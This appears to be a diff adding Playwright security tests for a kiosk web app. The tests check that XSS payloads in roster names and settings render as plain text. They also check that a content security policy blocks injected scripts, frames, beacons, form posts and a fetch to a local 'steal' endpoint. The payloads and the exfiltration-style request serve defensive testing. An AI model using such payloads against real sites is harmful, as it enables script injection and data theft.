@@ -1,0 +1,129 @@
+import { findField, openFind } from '../support/kiosk/kiosk-screen.ts';
+import { expect, openHome, people, test } from '../support/kiosk/kiosk-test.ts';
+import { swipe } from '../support/kiosk/scanner.ts';
+
+const scripts = [
+  '<img src=x onerror="window.hit=1">',
+  '"><svg onload=window.hit=1>',
+  '<script>window.hit=1</script>',
+  'javascript:window.hit=1',
+] as const;
+
+// E1. Bug: a text out of a roster or a setting becomes part of the page.
+test.describe('texts that would like to be scripts', () => {
+  test.use({
+    prepared: {
+      station: '<img src=x onerror=window.hit=1>',
+      roster: scripts.map((className, at) => ({
+        number: `2026070${at}`,
+        name: '测试甲',
+        className,
+        card: `016300070${at}`,
+      })),
+    },
+  });
+
+  test('are shown as the texts they are', async ({ page, kiosk }) => {
+    await openHome(page, kiosk);
+    await expect(page.getByRole('heading', { level: 1 })).toHaveText('<img src=x onerror=window.hit=1>');
+    await openFind(page);
+    await findField(page).fill('测试甲');
+    for (const text of scripts) await expect(page.getByText(text, { exact: true }).first()).toBeVisible();
+    await findField(page).fill(scripts[0]);
+    await swipe(page, '0163000701');
+    await expect(page.getByText(scripts[1]).first()).toBeVisible();
+    await swipe(page, '<script>alert(1)</script>');
+    await page.waitForTimeout(500);
+    expect(await page.evaluate(() => 'hit' in window)).toBe(false);
+    await expect(page.locator('img[src="x"]')).toHaveCount(0);
+  });
+});
+
+// E2. Bug: a page that can be led away, framed or made to run what it did not bring.
+test.describe('a page that is asked to misbehave', () => {
+  test.use({ expectedComplaints: /content security policy|refused to|violates|blocked/i });
+
+  test('runs nothing, loads nothing and stays', async ({ page, kiosk, context }) => {
+    await openHome(page, kiosk);
+    const outside: string[] = [];
+    context.on('request', (request) => {
+      if (!request.url().startsWith(kiosk.origin) && /^(https?|wss?):/.test(request.url())) outside.push(request.url());
+    });
+    const denied = await page.evaluate(async () => {
+      const seen: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
+      const add = (tag: string, fields: Record<string, string>) => {
+        const element = Object.assign(document.createElement(tag), fields);
+        document.body.append(element);
+        return element;
+      };
+      add('script', { textContent: 'window.hit = 1' });
+      add('script', { src: 'http://127.0.0.1:9/evil.js' });
+      add('iframe', { src: 'http://127.0.0.1:9/' });
+      add('object', { data: 'http://127.0.0.1:9/' });
+      add('img', { src: 'http://127.0.0.1:9/beacon.png' });
+      add('style', { textContent: 'body { display: none }' });
+      add('base', { href: 'http://127.0.0.1:9/' });
+      const form = add('form', { action: 'http://127.0.0.1:9/', method: 'post' }) as HTMLFormElement;
+      form.submit();
+      await fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'x' }).catch(() => undefined);
+      const link = add('a', { href: 'javascript:window.hit=1' });
+      link.click();
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return seen;
+    });
+    expect(new Set(denied)).toEqual(
+      new Set([
+        'script-src-elem',
+        'frame-src',
+        'object-src',
+        'img-src',
+        'style-src-elem',
+        'base-uri',
+        'form-action',
+        'connect-src',
+      ]),
+    );
+    expect(outside).toEqual([]);
+    expect(await page.evaluate(() => 'hit' in window)).toBe(false);
+    expect(page.url().startsWith(kiosk.origin)).toBe(true);
+  });
+});
+
+// Bug: a file or a link dropped on the screen replaces the application; a long press opens a menu.
+test('a dropped file, the context menu and the ways out of the page are refused', async ({ page, kiosk }) => {
+  await openHome(page, kiosk);
+  const isPrevented = await page.evaluate(() => {
+    const events: [string, Event][] = [
+      ['dragover', new DragEvent('dragover', { bubbles: true, cancelable: true })],
+      ['drop', new DragEvent('drop', { bubbles: true, cancelable: true })],
+      ['contextmenu', new MouseEvent('contextmenu', { bubbles: true, cancelable: true })],
+      ...['n', 't', 'w', 'o', 'p', 's', 'j', 'h', '+', '-', '0'].map((key): [string, Event] => [
+        `Ctrl+${key}`,
+        new KeyboardEvent('keydown', { key, ctrlKey: true, bubbles: true, cancelable: true }),
+      ]),
+      ['F1', new KeyboardEvent('keydown', { key: 'F1', bubbles: true, cancelable: true })],
+      ['zoom', new WheelEvent('wheel', { ctrlKey: true, bubbles: true, cancelable: true })],
+    ];
+    return events.filter(([, event]) => document.body.dispatchEvent(event)).map(([name]) => name);
+  });
+  expect(isPrevented).toEqual([]);
+});
+
+// Bug: a jammed reader or a mischievous keyboard freezes the screen or fills a field.
+test('a burst of a million characters is ignored', async ({ page, kiosk }) => {
+  await openHome(page, kiosk);
+  const milliseconds = await page.evaluate(() => {
+    const began = performance.now();
+    for (let at = 0; at < 100_000; at++) {
+      document.body.dispatchEvent(
+        new KeyboardEvent('keydown', { key: 'a', code: 'KeyA', bubbles: true, cancelable: true }),
+      );
+    }
+    document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true }));
+    return performance.now() - began;
+  });
+  expect(milliseconds).toBeLessThan(10_000);
+  await swipe(page, people.ouyang.card);
+  await expect(page.getByText('欧阳*').first()).toBeVisible();
+});
